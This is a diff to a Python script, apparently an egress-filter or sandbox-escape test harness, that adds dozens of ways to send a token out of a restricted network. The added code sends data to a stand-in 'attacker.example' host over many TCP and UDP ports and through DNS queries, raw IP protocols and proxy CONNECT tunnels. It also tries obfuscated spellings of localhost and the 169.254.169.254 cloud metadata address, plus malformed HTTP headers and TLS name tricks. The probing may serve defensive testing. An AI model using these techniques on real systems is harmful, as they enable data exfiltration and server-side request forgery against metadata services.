@@ -198,6 +198,68 @@ def a_gateway_of_its_own(token):
     udp(attacker, 9000, token.encode())
 
 
+def also(name, function, *rest):
+    attempts[name] = lambda token: function(token, *rest)
+
+
+def by_proxy(token, host): tcp(proxy, proxy_port, f'GET http://{host}/{token} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n'.encode())
+
+
+def by_tunnel(token, place):
+    with socket.create_connection((proxy, proxy_port), 3) as connection:
+        connection.settimeout(3)
+        connection.sendall(f'CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n'.encode())
+        connection.recv(4096)
+        connection.sendall(get(token, place))
+        connection.recv(4096)
+
+
+def say(token, text, place=(attacker, 80)): tcp(*place, text.replace('TOKEN', token).encode('latin1'))
+
+
+# Addresses in every spelling that some library reads: of the box itself, of metadata services, of the attacker.
+spellings = ['0x7f000001', '2130706433', '0177.0.0.1', '127.1', '0', '0.0.0.0', 'localhost', 'localhost.', 'LOCALHOST', '[::1]', '[::]',
+             '[::ffff:127.0.0.1]', '[::ffff:169.254.169.254]', '[64:ff9b::a9fe:a9fe]', '0xa9fea9fe', '2852039166', '169.254.169.254.',
+             '169.254.43518', '0251.0376.0251.0376', '198.51.100.66.', '0xc6336442', '3325256770', '198.51.25666', '0306.063.0144.0102',
+             '%31%39%38.51.100.66', 'open.example%00.attacker.example', 'attacker.example%2eopen.example', 'open.example\\@attacker.example']
+for at, host in enumerate(spellings):
+    also(f'spelling-{at}', by_proxy, host)
+    also(f'tunnel-to-spelling-{at}', by_tunnel, f'{host}:80')
+for port in (22, 25, 53, 465, 853, 6667, 8443, 9001):
+    also(f'tcp-port-{port}', lambda token, port: tcp(attacker, port, token.encode()), port)
+    also(f'tunnel-port-{port}', by_tunnel, f'{attacker}:{port}')
+for port in (123, 161, 500, 853, 1194, 3478, 4500, 51820):
+    also(f'udp-port-{port}', lambda token, port: udp(attacker, port, token.encode()), port)
+for kind in (2, 5, 6, 10, 12, 15, 16, 28, 33, 65, 252, 255):
+    also(f'dns-type-{kind}', lambda token, kind: udp(name_server, 53, question(f'{token}.attacker.example', kind)), kind)
+for protocol in (2, 41, 47, 50, 51, 89, 103, 112, 115, 132):
+    also(f'raw-protocol-{protocol}', lambda token, protocol: raw(protocol, token.encode()), protocol)
+for at, place in enumerate((('10.0.0.5', 8080), ('100.64.0.9', 8080), ('169.254.169.254', 8080), (neighbour, 22), (box, 22))):
+    also(f'closed-place-{at}', lambda token, place: tcp(*place, get(token, place[0])), place)
+    also(f'tunnel-to-closed-place-{at}', by_tunnel, f'{place[0]}:{place[1]}')
+heads = {
+    'upper-case': 'GET /TOKEN HTTP/1.1\r\nHost: OPEN.EXAMPLE\r\n\r\n',
+    'dot': 'GET /TOKEN HTTP/1.1\r\nHost: open.example.\r\n\r\n',
+    'two-hosts': 'GET /TOKEN HTTP/1.1\r\nHost: open.example\r\nHost: attacker.example\r\n\r\n',
+    'folded': 'GET /TOKEN HTTP/1.1\r\nHost:\r\n open.example\r\n\r\n',
+    'absolute': 'GET http://open.example/TOKEN HTTP/1.1\r\nHost: open.example\r\n\r\n',
+    'http-0.9': 'GET /TOKEN\r\n',
+    'http-1.0': 'GET /TOKEN HTTP/1.0\r\n\r\n',
+    'bare-newlines': 'GET /TOKEN HTTP/1.1\nHost: open.example\n\n',
+    'late': '\r\n\r\nGET /TOKEN HTTP/1.1\r\nHost: open.example\r\n\r\n',
+    'http-2': 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nTOKEN',
+    'websocket': 'GET /TOKEN HTTP/1.1\r\nHost: open.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n',
+    'trace': 'TRACE /TOKEN HTTP/1.1\r\nHost: open.example\r\n\r\n',
+    'proxy-in-it': 'CONNECT attacker.example:443 HTTP/1.1\r\nHost: attacker.example:443\r\n\r\nTOKEN',
+    'banner': 'SSH-2.0-TOKEN\r\n',
+    'nul': '\0\0\0\0TOKEN',
+}
+for name, head in heads.items():
+    also(f'head-{name}', say, head)
+for at, name in enumerate(('OPEN.EXAMPLE', 'open.example.', 'localhost', 'www.open.example', attacker)):
+    also(f'tls-name-{at}', lambda token, name: tls(token, attacker, name, 'open.example'), name)
+
+
 def run(name, function):
     try:
         function(f'{prefix}-{name}')
